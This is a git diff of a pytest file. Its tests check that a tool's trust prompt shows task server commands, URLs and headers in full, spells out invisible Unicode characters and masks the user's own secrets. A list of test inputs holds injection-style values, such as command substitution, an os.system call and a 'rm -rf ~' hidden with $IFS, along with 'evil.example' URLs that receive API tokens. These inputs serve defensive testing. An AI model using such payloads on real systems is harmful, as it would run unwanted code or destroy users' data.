@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 from pathlib import Path
 
 import pytest
@@ -11,11 +12,11 @@ import pytest
 from hudtui.core import trust
 from hudtui.core.environment.cache import save_analysis as remember
 from hudtui.core.environment.client import connect
-from hudtui.core.environment.powers import task_powers
+from hudtui.core.environment.powers import server_lines, task_powers
 from hudtui.core.environment.source import parse_source
 from hudtui.core.environment.values import Analysis
 from hudtui.core.errors import InputError
-from hudtui.core.flows.trust import survey
+from hudtui.core.flows.trust import listing, survey
 from hudtui.core.platform import HUD, find_platform
 from hudtui.core.settings import Settings, load_settings, save_project_setting, save_user_setting, user_file
 
@@ -223,7 +224,82 @@ def test_tasks_name_the_keys_that_they_would_send(folder: Path) -> None:
     file = folder / "tasks.json"
     headers = {"A": "Bearer $PRIME_API_KEY", "B": "${HF_TOKEN:-x}"}
     (power,) = task_powers([{"x": {"url": "https://evil.example/mcp", "headers": headers}}] * 3, file)
-    assert power.text == "https://evil.example/mcp with PRIME_API_KEY, HF_TOKEN"
+    assert power.text == (
+        "https://evil.example/mcp, header A: Bearer $PRIME_API_KEY, header B: ${HF_TOKEN:-x}, with PRIME_API_KEY, HF_TOKEN"
+    )
+
+
+HIDING = [
+    "token=`touch${IFS}/tmp/x`",
+    "my-secret:`id`",
+    "PASSWORD=$(id)",
+    "auth=<(id)",
+    "cookie:id;id",
+    "x_key=__import__('os').system('id')",
+    "--api-key=;rm${IFS}-rf${IFS}~",
+    "authorization: bearer evil",
+    'TOKEN="$IFS"evil',
+    "access_key=\\\nevil",
+    "https://user:evil@example.com/?token=evil",
+    "//token=evil@example.com",
+    "client-secrets=evil&credential=evil",
+]
+
+
+@pytest.mark.parametrize("text", HIDING)
+def test_a_command_is_shown_whole_whatever_its_words_look_like(folder: Path, text: str) -> None:
+    """As an argument, as the program, as a variable, in an address and in a header."""
+    shown = text.replace("\n", "\\n")
+    servers = [
+        {"command": "sh", "args": ["-c", text]},
+        {"command": text},
+        {"command": "sh", "env": {"A": text}},
+        {"command": "sh", "env": {text: "1"}},
+        {"command": "sh", "cwd": text},
+        {"url": f"https://evil.example/{text}"},
+        *([{"url": "https://evil.example", "headers": {"X-Key": text}}] if "\n" not in text else []),
+    ]
+    for server in servers:
+        (power,) = task_powers([{"x": server}], folder / "tasks.json")
+        assert shown.replace("'", "'\"'\"'") in power.text or shown in power.text, power.text
+        (line,) = server_lines({"x": server})
+        assert power.text in line, "the question before a test shows the same"
+
+
+@pytest.mark.parametrize("length", [1_999, 2_001, 20_000, 300_000])
+def test_a_long_command_is_shown_with_its_end(folder: Path, length: int) -> None:
+    (power,) = task_powers([{"x": {"command": "sh", "args": ["-c", f"true {'x' * length}; EVIL"]}}], folder / "tasks.json")
+    assert power.text.endswith(f"{'x' * 100}; EVIL'") and len(power.text) > length
+
+
+UNSEEN = (
+    *"\x00\x07\x08\x0b\x1b\x7f\x80\x85\x90\x9b\x9d\x9f\xa0\xad\u034f\u061c\u115f\u1160\u1680\u17b4\u180b\u180e\u2000\u200b\u200c",
+    *"\u200d\u200e\u200f\u2028\u2029\u202a\u202e\u202f\u205f\u2060\u2064\u2066\u2069\u206a\u2800\u3000\u3164\ufe00\ufe0f\ufeff\uffa0",
+    *"\ufff9\U0001d173\U000e0001\U000e0041\U000e0100\U000e01ef\ud800\ue000\n\r\t",
+)
+
+
+@pytest.mark.parametrize("letter", UNSEEN, ids=lambda letter: f"{ord(letter):04x}")
+def test_what_a_terminal_would_not_show_is_spelled_out(folder: Path, letter: str) -> None:
+    servers = [{"command": "sh", "args": ["-c", f"a{letter}b"]}, {"url": f"https://evil.example/a{letter}b"}]
+    for server in servers:
+        (power,) = task_powers([{"x": server}], folder / f"tasks{letter}.json")
+        assert letter not in power.text and power.text.isprintable()
+        assert re.search(r"a\\(x..|u....|U........|[nrt])b", power.text), power.text
+        assert letter not in "".join(listing([power], folder))
+
+
+def test_blanks_move_nothing_out_of_sight(folder: Path) -> None:
+    (power,) = task_powers([{"x": {"command": "sh", "args": ["-c", f"true{' ' * 5000}; EVIL"]}}], folder / "tasks.json")
+    assert power.text == "sh -c 'true [5,000 blanks] ; EVIL'"
+
+
+def test_the_user_s_own_secrets_are_masked_and_nothing_else(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    save_user_setting("PRIME_API_KEY", USER)
+    monkeypatch.setenv("SOME_TOKEN", "tok-in-the-environment")
+    command = f"token={USER} --key tok-in-the-environment --secret=other"
+    (power,) = task_powers([{"x": {"command": "sh", "args": ["-c", command]}}], folder / "tasks.json")
+    assert power.text == "sh -c 'token=•••• --key •••• --secret=other'"
 
 
 @pytest.mark.parametrize(
